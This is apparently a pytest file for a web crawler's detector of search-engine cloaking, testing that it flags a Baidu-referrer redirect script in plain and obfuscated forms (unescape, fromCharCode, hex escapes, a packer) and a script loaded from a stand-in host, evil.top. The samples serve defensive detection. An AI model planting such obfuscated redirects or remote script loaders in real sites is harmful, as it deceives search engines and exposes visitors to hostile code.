"""Scripts that treat search engines' visitors otherwise, however they are written."""

from __future__ import annotations

import pytest

from crawler.readers.cloaks import cloaking_scripts, unpacked
from crawler.readers.dom import Dom

PLAIN = 'var r=document.referrer;if(r.indexOf("baidu")>0){location.href="http://x.top/a"}'


def ways(script: str, around: str = "") -> list[tuple[str, ...]]:
    text = f"<html><head></head><body><script>{script}</script></body></html>{around}"
    return [block.ways for block in cloaking_scripts(Dom(text, url="http://a.gov.cn/", encoding=None))]


@pytest.mark.parametrize(
    "script",
    [
        PLAIN,
        "eval(unescape('" + "".join(f"%{ord(letter):02x}" for letter in PLAIN) + "'))",
        "eval(String.fromCharCode(" + ",".join(str(ord(letter)) for letter in PLAIN) + "))",
        "eval('" + "".join(f"\\x{ord(letter):02x}" for letter in PLAIN) + "')",
        r"""eval(function(p,a,c,k,e,d){return p}('0 1=2.3;4(1.5("6")>0){7.8="9://a.b/"}',12,12,"""
        r"""'var|r|document|referrer|if|indexOf|baidu|location|href|http|x|top'.split('|'),0,{}))""",
    ],
)
def test_it_is_seen_plain_and_packed(script: str) -> None:
    assert ways(script) == [("script",)]


def test_the_usual_packer_is_undone() -> None:
    packed = "}('0 1',2,2,'alert|hello'.split('|'),0,{}))"
    assert "alert hello" in unpacked(packed)


def test_a_packed_script_that_brings_a_stranger_and_one_outside_the_document_are_told() -> None:
    bringing = "document.write('<script src=//evil.top/a.js>')"
    assert ways("eval(unescape('" + "".join(f"%{ord(letter):02x}" for letter in bringing) + "'))") == [
        ("packed_script",)
    ]
    assert ways("", "<script src='http://evil.top/x.js'></script>") == [("outside_script",)]


@pytest.mark.parametrize(
    "script",
    [
        "if(/Android/.test(navigator.userAgent)){location.href='/m/'}",
        "eval(function(p,a,c,k,e,d){return p}('0 1=2',3,3,'var|a|b'.split('|'),0,{}))",
        "var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js';var r=document.referrer;",
    ],
)
def test_what_sends_nobody_away_is_silent(script: str) -> None:
    assert ways(script) == []
